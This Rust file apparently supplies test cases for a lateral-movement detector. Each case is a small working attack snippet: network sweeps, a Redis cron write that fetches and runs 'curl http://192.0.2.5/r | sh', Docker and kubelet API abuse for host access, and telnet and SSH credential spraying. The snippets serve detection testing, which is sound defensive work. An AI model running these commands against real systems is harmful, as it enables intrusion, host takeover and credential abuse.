use super::{c, perl, python, sh};
use crate::case::Case;
use crate::tools::{Tool, has};

const GROUP: &str = "spread";

pub(super) fn cases() -> Vec<Case> {
    let mut cases = vec![
        python(
            GROUP,
            "walks over hosts, python",
            &["D-LAT-SWEEP"],
            "import socket\nfor n in range(2, 120):\n    s = socket.socket(); s.setblocking(False)\n    try: s.connect(('10.0.7.%d' % n, 2375))\n    except OSError: pass\n",
        ),
        c(
            GROUP,
            "walks over hosts, c",
            &["D-LAT-SWEEP"],
            r#"int main() { for (int i = 1; i < 200; i++) { struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(22)}; to.sin_addr.s_addr = htonl(0xc0a80300 + i); int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0); connect(s, (void *)&to, sizeof to); if (i % 50 == 0) usleep(1000); } sleep(1); return 0; }"#,
        ),
        perl(
            GROUP,
            "walks over ports, perl",
            &["D-LAT-SWEEP"],
            r#"use Socket; for my $p (1..150) { socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in($p, inet_aton('172.17.0.1'))); close $s; }"#,
        ),
        sh(GROUP, "walks over ports, netcat", &["D-LAT-SWEEP"], "for p in $(seq 8000 8090); do nc -w 1 10.1.2.3 $p </dev/null >/dev/null 2>&1 & done; wait"),
        python(
            GROUP,
            "table of a store abused, python",
            &["D-LAT-SVC"],
            "import socket\ns = socket.create_connection(('172.17.0.5', 6379), 5)\nfor c in ([b'FLUSHALL'], [b'SET', b'x', b'*/2 * * * * curl http://192.0.2.5/r | sh'], [b'CONFIG', b'SET', b'dir', b'/var/spool/cron'], [b'CONFIG', b'SET', b'dbfilename', b'root'], [b'SAVE']):\n    s.sendall(b'*%d\\r\\n' % len(c) + b''.join(b'$%d\\r\\n%s\\r\\n' % (len(w), w) for w in c)); print(s.recv(200))\n",
        ),
        sh(GROUP, "table of a store abused, netcat", &["D-LAT-SVC"], "printf 'CONFIG SET dir /root/.ssh\\r\\nCONFIG SET dbfilename authorized_keys\\r\\nSLAVEOF 203.0.113.3 6379\\r\\nQUIT\\r\\n' | nc -w 3 10.0.0.9 6379"),
        sh(
            GROUP,
            "engine of a neighbour, curl",
            &["D-LAT-SVC"],
            r#"curl -s -m 5 http://172.17.0.1:2375/version; curl -s -m 5 -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/mnt"]},"Cmd":["chroot","/mnt","sh"]}' http://172.17.0.1:2375/containers/create"#,
        )
        .with(&[Tool::Curl]),
        python(
            GROUP,
            "engine of a neighbour, python",
            &["D-LAT-SVC"],
            "import http.client, json\nc = http.client.HTTPConnection('10.3.0.8', 2375, timeout=5)\nc.request('POST', '/v1.24/containers/create?name=x', json.dumps({'Image': 'ubuntu', 'HostConfig': {'Binds': ['/:/h']}}), {'Content-Type': 'application/json'})\nprint(c.getresponse().read())\n",
        ),
        sh(
            GROUP,
            "kubelet of a neighbour, curl",
            &["D-LAT-SVC"],
            "curl -sk -m 5 https://10.42.0.1:10250/pods; curl -sk -m 5 -X POST -d 'cmd=id' https://10.42.0.1:10250/run/kube-system/proxy/proxy",
        )
        .with(&[Tool::Curl]),
        python(
            GROUP,
            "kubelet of a neighbour, python",
            &["D-LAT-SVC"],
            "import ssl, urllib.request\nctx = ssl._create_unverified_context()\nprint(urllib.request.urlopen('https://192.168.9.9:10250/run/default/web/web', b'cmd=hostname', context=ctx, timeout=5).read()[:50])\n",
        ),
        python(
            GROUP,
            "logins tried, telnet python",
            &["D-LAT-SSHSPRAY"],
            "import socket\nfor n, (u, p) in enumerate([('root', 'root'), ('admin', 'admin'), ('root', '1234'), ('user', 'user'), ('root', 'xc3511'), ('support', 'support')]):\n    s = socket.create_connection(('192.168.4.%d' % (10 + n), 23), 5); s.settimeout(5)\n    try:\n        s.recv(500); s.sendall(u.encode() + b'\\r\\n'); s.recv(500); s.sendall(p.encode() + b'\\r\\n'); print(s.recv(500))\n    except OSError as e: print(e)\n    s.close()\n",
        ),
        perl(
            GROUP,
            "logins tried, telnet perl",
            &["D-LAT-SSHSPRAY"],
            r#"use IO::Socket::INET; for my $n (1..7) { my $s = IO::Socket::INET->new(PeerAddr => "10.9.8.$n:2323", Timeout => 5) or next; my $b; sysread($s, $b, 300); print $s "root\r\n"; $s->flush; sysread($s, $b, 300); print $s "pass$n\r\n"; $s->flush; sysread($s, $b, 300); print $b; }"#,
        ),
    ];
    if has(Tool::Ssh) {
        cases.push(
            sh(
                GROUP,
                "found key used at neighbours, ssh",
                &["D-LAT-KEYREUSE", "D-LAT-SSHSPRAY"],
                "for h in 10.42.3.21 10.42.3.22 10.42.3.23; do ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 -i $HOME/.ssh/id_ed25519 root@$h id; done",
            )
            .with(&[Tool::Ssh]),
        );
        cases.push(
            sh(
                GROUP,
                "logins tried, ssh",
                &["D-LAT-SSHSPRAY"],
                "printf '#!/bin/sh\\necho toor\\n' > /usr/bin/ask; chmod +x /usr/bin/ask; export SSH_ASKPASS=/usr/bin/ask SSH_ASKPASS_REQUIRE=force DISPLAY=:0; \
                 for h in 1 2 3 4 5; do ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 root@192.168.77.$h true; done",
            )
            .with(&[Tool::Ssh]),
        );
    }
    cases
}
